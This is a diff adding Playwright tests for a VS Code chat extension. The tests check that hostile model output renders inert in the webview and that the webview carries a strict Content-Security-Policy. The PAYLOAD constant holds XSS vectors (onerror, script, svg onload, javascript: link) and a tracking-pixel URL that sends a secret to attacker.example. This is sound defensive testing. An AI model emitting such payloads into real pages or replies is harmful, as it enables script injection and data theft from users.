@@ -1,0 +1,119 @@
+// security.md items 1-4 and 6 in real VS Code: model output cannot run script or fetch anything, and the
+// webview's HTML carries a strict CSP with a fresh nonce.
+import { test, expect } from './fixtures';
+
+test.use({ codeServerOptions: { useEndpoint: true } });
+
+const PAYLOAD = [
+  'Here is what the file said:',
+  '',
+  '<img src=x onerror="window.__pwned = 1">',
+  '<script>window.__pwned = 2</script>',
+  '<svg onload="window.__pwned = 3"><circle r="5"/></svg>',
+  '<iframe src="https://attacker.example/frame"></iframe>',
+  '',
+  '[click me](javascript:window.__pwned=4) and [docs](https://example.com/docs)',
+  '',
+  '![tracking pixel](https://attacker.example/pixel.png?secret=KEY)',
+  '',
+  '<img src="https://attacker.example/img.png">',
+  '',
+  'Done.',
+].join('\n');
+
+test('script payloads render inert, remote images are not fetched, links go through VS Code', async ({
+  workbench,
+  endpoint,
+  page,
+}) => {
+  // Every request the page makes is seen here. None may go to a host the reply named, and the webview's own
+  // frames may load nothing but the extension's resources (served by VS Code from the extension folder).
+  const toPayloadHosts: string[] = [];
+  const fromWebview: string[] = [];
+  page.on('request', (r) => {
+    const url = r.url();
+    if (/attacker\.example|example\.com/.test(url)) toPayloadHosts.push(url);
+    const frameUrl = r.frame().url();
+    if (/vscode-webview|vscode-cdn/.test(frameUrl) && !/vscode-resource|^data:|^blob:/.test(url))
+      fromWebview.push(url);
+  });
+  await endpoint.script(PAYLOAD);
+  const chat = await workbench.openChatView();
+  await chat.getByRole('textbox', { name: 'Message Claude' }).fill('Summarise the file');
+  await chat.getByRole('textbox', { name: 'Message Claude' }).press('Enter');
+  const reply = chat.locator('article.turn.assistant').last();
+  await expect(reply).toContainText('Done.');
+
+  const probe = await chat.evaluate(() => {
+    const root = document.querySelector('article.turn.assistant:last-of-type') ?? document.body;
+    const withHandlers = [...root.querySelectorAll('*')].filter((el) =>
+      [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on')),
+    ).length;
+    return {
+      pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0,
+      scripts: root.querySelectorAll('script').length,
+      iframes: root.querySelectorAll('iframe').length,
+      svgs: root.querySelectorAll('svg').length,
+      remoteImgs: [...root.querySelectorAll('img')].filter((i) =>
+        /^https?:|^\/\//.test(i.getAttribute('src') ?? ''),
+      ).length,
+      jsLinks: [...root.querySelectorAll('a')].filter((a) =>
+        /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
+      ).length,
+      withHandlers,
+    };
+  });
+  expect(probe).toEqual({
+    pwned: 0,
+    scripts: 0,
+    iframes: 0,
+    svgs: 0,
+    remoteImgs: 0,
+    jsLinks: 0,
+    withHandlers: 0,
+  });
+  // The tracking image shows as a placeholder naming it, not as an image.
+  await expect(reply).toContainText('tracking pixel');
+  // Clicking the javascript: link does nothing; clicking an http link asks VS Code, which asks the user.
+  await reply.getByText('click me').click();
+  expect(await chat.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0)).toBe(0);
+  await reply.getByRole('link', { name: 'docs' }).click();
+  await expect(page.locator('.monaco-dialog-box')).toContainText('example.com');
+  await page.keyboard.press('Escape');
+  await page.waitForTimeout(500);
+  expect(toPayloadHosts).toEqual([]);
+  expect(fromWebview).toEqual([]);
+  await workbench.screenshot('safety-inert-payloads');
+});
+
+test('the webview document has a strict CSP with a fresh 128-bit nonce', async ({ workbench }) => {
+  const chat = await workbench.openChatView();
+  const { csp, nonces } = await chat.evaluate(() => ({
+    csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+    // Scripts with a src are ours (VS Code injects its API shim inline, outside our page's control).
+    nonces: [...document.querySelectorAll('script[src]')].map((s) => (s as HTMLScriptElement).nonce),
+  }));
+  expect(csp).toContain("default-src 'none'");
+  expect(csp).not.toContain('unsafe-inline');
+  expect(csp).not.toContain('unsafe-eval');
+  // No scheme-wide sources anywhere, and images only from data: URLs (remote images are never fetched).
+  expect(csp).not.toMatch(/(^|\s)https?:(\s|;|$)/);
+  expect(csp).toMatch(/img-src data:(;|$)/);
+  expect(csp).not.toMatch(/connect-src/);
+  const nonce = /script-src 'nonce-([^']+)'/.exec(csp)?.[1] ?? '';
+  expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16);
+  expect(nonces).toEqual([nonce]);
+  // No handle to the host is left on window for injected content to find.
+  const handles = await chat.evaluate(() => {
+    const onWindow = Object.keys(window).filter((k) => /vscode/i.test(k) && k !== 'acquireVsCodeApi');
+    let secondAcquire = 'succeeded';
+    try {
+      (window as unknown as { acquireVsCodeApi(): unknown }).acquireVsCodeApi();
+    } catch {
+      secondAcquire = 'refused';
+    }
+    return { onWindow, secondAcquire };
+  });
+  // The one handle was taken at start-up and kept in a module; a script that got in could not get another.
+  expect(handles).toEqual({ onWindow: [], secondAcquire: 'refused' });
+});
